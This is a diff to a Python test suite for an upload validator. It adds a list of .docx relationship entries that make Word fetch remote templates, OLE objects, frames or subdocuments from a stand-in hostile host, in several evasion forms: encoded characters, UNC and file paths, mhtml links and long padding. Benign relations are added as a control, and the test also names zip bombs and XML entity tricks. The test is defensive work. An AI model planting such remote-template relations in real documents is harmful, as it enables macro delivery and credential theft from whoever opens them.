@@ -54,6 +54,34 @@ HOSTILE_IMAGES = {
     "eleven MB": ("a.jpg", lambda: make.picture() + bytes(11 * 1024 * 1024)),
 }
 
+# Of a Word file; the program that opens it goes there unasked.
+FETCHED = [
+    b'<R Type="x/attachedTemplate" Target="https://kwaad.test/x.dotm"/>',
+    b'<R Target="https://kwaad.test/x.dotm" Type="x/attachedTemplate"/>',
+    b'<R Type="x/attachedTemplate" Target = "&#104;ttps://kwaad.test/x.dotm"/>',
+    b'<R Type="x/attached&#x54;emplate" Id="a>b" Target="https://kwaad.test/x.dotm"/>',
+    b'<R Type="x/attachedTemplate" Target="file://kwaad.test/x.dotm"/>',
+    b'<R Type="x/attachedTemplate" Target="file:////kwaad.test/x.dotm"/>',
+    b"<R Type='x/attachedTemplate' Target='\\\\kwaad.test\\x.dotm'/>",
+    b"<R Type='x/attachedTemplate' Target='file:\\\\kwaad.test\\x.dotm'/>",
+    b'<R Type="x/oleObject" Target="mhtml:https://kwaad.test/x!" TargetMode="External"/>',
+    b'<R Type="x/oleObject" Target="https://kwaad.test/x.html!" TargetMode="External"/>',
+    b'<R Type="x/frame" Target="https://kwaad.test/" TargetMode="External"/>',
+    b'<R Type="x/subDocument" Target="https://kwaad.test/x.docx" TargetMode="External"/>',
+    b'<R Type="x/aFChunk" Target="//kwaad.test/x.html" TargetMode="External"/>',
+]
+KEPT = (
+    b'<R Type="x/hyperlink" Target="https://voorbeeld.test/" TargetMode="External"/>'
+    b'<R Type="x/image" Target="https://voorbeeld.test/a.png" TargetMode="External"/>'
+    b'<R Type="x/attachedTemplate" Target="file:///C:/Normal.dotm" TargetMode="External"/>'
+    b'<R Type="x/oleObject" Target="embeddings/oleObject1.bin"/>'
+)
+
+
+def related(relations):
+    return make.office("docx", ("word/_rels/document.xml.rels", relations), ("word/a.jpg", NOISE))
+
+
 HOSTILE_DOCUMENTS = {
     "program": ("a.exe", lambda: b"MZ" + bytes(100)),
     "html": ("a.html", lambda: HTML),
@@ -93,20 +121,15 @@ HOSTILE_DOCUMENTS = {
     ),
     "entity in utf-16": ("a.docx", lambda: make.office("docx", body="<!DOCTYPE a [<!ENTITY b 'c'>]>".encode("utf-16"))),
     "entity after 1 MB": ("a.docx", lambda: make.office("docx", body=b"<a/> " * 200_000 + b"<!DOCTYPE a>")),
-    "template from elsewhere": (
+    **{
+        f"fetched from elsewhere: {relation.decode()}": ("a.docx", lambda relation=relation: related(relation))
+        for relation in FETCHED
+    },
+    "fetched from elsewhere, with a long way between the words": (
         "a.docx",
-        lambda: make.office(
-            "docx",
-            ("word/_rels/settings.xml.rels", b'<R Type="x/attachedTemplate" Target="https://kwaad.test/x.dotm"/>'),
-        ),
+        lambda: related(b'<R Type="x/oleObject"' + b" " * 300_000 + b'Target="https://kwaad.test/x"/>'),
     ),
-    "template from elsewhere, told the other way round": (
-        "a.docx",
-        lambda: make.office(
-            "docx",
-            ("word/_rels/settings.xml.rels", b'<R Target="https://kwaad.test/x.dotm" Type="x/attachedTemplate"/>'),
-        ),
-    ),
+    "two MB of relations": ("a.docx", lambda: related(b"<R/>" * 500_000)),
     "1,001 entries": ("a.docx", lambda: make.office("docx", *[(f"word/{n}.xml", b"") for n in range(999)])),
     "60,000 entries": ("a.docx", lambda: make.office("docx", *[(f"w/{n}", b"") for n in range(60_000)])),
     "bomb of 200 MB": ("a.docx", lambda: make.office("docx", ("word/a.xml", bytes(200 * 1024 * 1024)))),
@@ -130,7 +153,7 @@ HOSTILE_DOCUMENTS = {
 
 
 def test_there_are_enough_hostile_files():
-    assert (len(HOSTILE_IMAGES), len(HOSTILE_DOCUMENTS)) == (31, 47)
+    assert (len(HOSTILE_IMAGES), len(HOSTILE_DOCUMENTS)) == (31, 60)
 
 
 @pytest.mark.filterwarnings("ignore:Duplicate name")
@@ -161,6 +184,7 @@ def test_a_hostile_document_is_refused_in_time(case):
     [
         ("a.pdf", make.PDF),
         ("a.docx", make.office("docx")),
+        ("a.docx", related(KEPT)),
         ("a.xlsx", make.office("xlsx", ("xl/printerSettings/printerSettings1.bin", b"\0"))),
         ("a.pptx", make.office("pptx", ("ppt/media/a.png", make.picture("PNG")))),
         ("a.odt", make.open_document()),
